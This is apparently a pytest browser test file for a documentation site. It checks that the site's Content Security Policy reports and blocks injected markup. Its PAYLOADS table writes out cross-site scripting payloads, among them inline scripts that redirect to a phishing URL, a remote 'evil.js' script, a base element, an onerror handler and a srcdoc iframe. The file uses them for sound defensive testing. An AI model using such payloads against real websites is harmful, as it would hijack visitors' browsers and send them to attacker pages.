"""What the Content Security Policy stops in a real browser, if markup ever got past
the build (issue 23). `make check` refuses every way an editor could put markup into a
page (tests/test_editor_mistakes.py, tests/test_sanitise.py, tests/test_schema.py); this
is the second wall. Each payload below is written into a copy of a built guide where
an unescaped value would land: in <head> right after the description (the front
matter's description, author and title print there), in the navigation (titles) and
in the article (content). In every case the browser reports a `securitypolicyviolation`
and nothing runs, navigates, loads from another host or changes the page's base.

The exact text of Material's redirect.html script is among them: the old policy gave
any script of that shape a hash, so a description that closed its attribute and
wrote it sent readers away (review code-2026-12-04 §5)."""

from __future__ import annotations

import shutil

import pytest

from conftest import SiteServer, site_prefix
from test_browser_pages import recording_tab, violations

pytestmark = pytest.mark.browser

AWAY = "https://example.org/phish"
# name -> (where it is written, the payload)
PAYLOADS = {
    "inline script in head": (
        "head", f'<script>window.__ran = "head"; window.location.replace("{AWAY}")</script>'),
    "Material's redirect script": (
        "head", f'<script>window.location.replace(["{AWAY}",window.location.search,window.location.hash].join(""))</script>'),
    "script from data: address": (
        "head", '<script src="data:text/javascript,window.__ran=%22data%22"></script>'),
    "script from another host": (
        "head", '<script src="https://example.org/evil.js"></script>'),
    "base element": (
        "head", '<base href="https://example.org/">'),
    "event handler in navigation": (
        "nav", '<img src="data:," alt="" onerror="window.__ran = \'handler\'">'),
    "inline script in article": (
        "article", '<script>window.__ran = "article"</script>'),
    "srcdoc frame": (
        "article", f'<iframe srcdoc="&lt;script&gt;parent.__ran = &quot;frame&quot;; '
                   f'top.location = &quot;{AWAY}&quot;&lt;/script&gt;"></iframe>'),
}
# Where each place is in a built page: the payload goes right after this text.
ANCHOR = {"head": '<meta name="description" content="', "nav": '<nav class="md-nav md-nav--primary"',
          "article": "<article"}
GUIDE = "guides/facebook"


def slug(name: str) -> str:
    return name.replace(" ", "-").replace("'", "").replace(":", "").lower()


def inject(html: str, place: str, payload: str) -> str:
    """The page with `payload` after the element that holds the anchor text."""
    start = html.index(ANCHOR[place])
    end = html.index(">", start) + 1
    return html[:end] + payload + html[end:]


@pytest.fixture(scope="module")
def injected(site, tmp_path_factory):
    """A copy of the site with one guide per payload, at the guide's depth (its links work)."""
    copy = tmp_path_factory.mktemp("injected") / "site"
    shutil.copytree(site, copy)
    html = (copy / GUIDE / "index.html").read_text(encoding="utf-8")
    for name, (place, payload) in PAYLOADS.items():
        folder = copy / "guides" / f"x-{slug(name)}"
        folder.mkdir()
        (folder / "index.html").write_text(inject(html, place, payload), encoding="utf-8")
    with SiteServer(copy, prefix=site_prefix()) as server:
        yield server


@pytest.mark.parametrize("name", PAYLOADS)
def test_an_injected_payload_is_reported_and_does_nothing(browser, injected, name):
    url = f"guides/x-{slug(name)}/"
    tab = recording_tab(browser, injected)
    try:
        navigations, refused = [], {}
        tab.page.on("framenavigated", lambda frame: navigations.append(frame.url))
        tab.page.on("requestfailed", lambda request: refused.setdefault(request.url, request.failure))
        tab.open(url)
        # Positive signal: the browser has reported the violation (no sleeping, no polling for absence).
        tab.page.wait_for_function("() => window.__violations.length > 0")
        reports = violations(tab)
        state = tab.page.evaluate("() => [window.__ran, document.baseURI, location.href]")
        tab.page.wait_for_load_state("networkidle")
        assert state == [None, injected.url + url, injected.url + url], f"{name}: {state}"
        assert all(address.startswith(injected.url) or address in ("about:srcdoc", "about:blank")
                   for address in navigations), f"{name}: navigated to {navigations}"
        # A request the policy refuses never leaves the browser (its failure: "csp");
        # the tab's own route would abort any other, so nothing here reaches the internet.
        sent = [a for a in tab.foreign if refused.get(a) != "csp"]
        assert sent == [], f"{name}: asked another host for {sent} ({refused})"
        # The page's own scripts are not what was blocked: the report names the payload.
        assert all(" blocked inline " in r or " blocked https://example.org/" in r or " blocked data" in r
                   for r in reports), reports
        # The page still works: site.js ran (it draws the first tab's underline).
        assert tab.page.evaluate(
            "() => !!document.querySelector('.tabbed-labels')?.style.getPropertyValue('--md-indicator-width')")
    finally:
        tab.page.context.close()


def test_the_payloads_land_where_they_are_meant_to(site):
    """The injection itself is checked: each payload is in the page, after its anchor."""
    html = (site / GUIDE / "index.html").read_text(encoding="utf-8")
    for name, (place, payload) in PAYLOADS.items():
        changed = inject(html, place, payload)
        assert changed.count(payload) == 1, name
        assert changed.index(payload) > changed.index(ANCHOR[place]), name
        if place == "head":
            assert changed.index(payload) < changed.index("</head>"), name
            # After the policy: a policy <meta> covers only what comes after it.
            assert changed.index('http-equiv="Content-Security-Policy"') < changed.index(payload), name


def test_without_the_policy_the_first_payload_would_run(browser, site, tmp_path):
    """The test above can fail: the same page without its policy runs the script."""
    copy = tmp_path / "site"
    shutil.copytree(site, copy)
    page = copy / GUIDE / "index.html"
    html = page.read_text(encoding="utf-8")
    start = html.index('<meta http-equiv="Content-Security-Policy"')
    html = html[:start] + html[html.index(">", start) + 1:]
    page.write_text(inject(html, "article", PAYLOADS["inline script in article"][1]), encoding="utf-8")
    with SiteServer(copy, prefix=site_prefix()) as server:
        tab = recording_tab(browser, server)
        try:
            tab.open(GUIDE + "/")
            assert tab.page.evaluate("() => window.__ran") == "article"
            assert violations(tab) == []
        finally:
            tab.page.context.close()
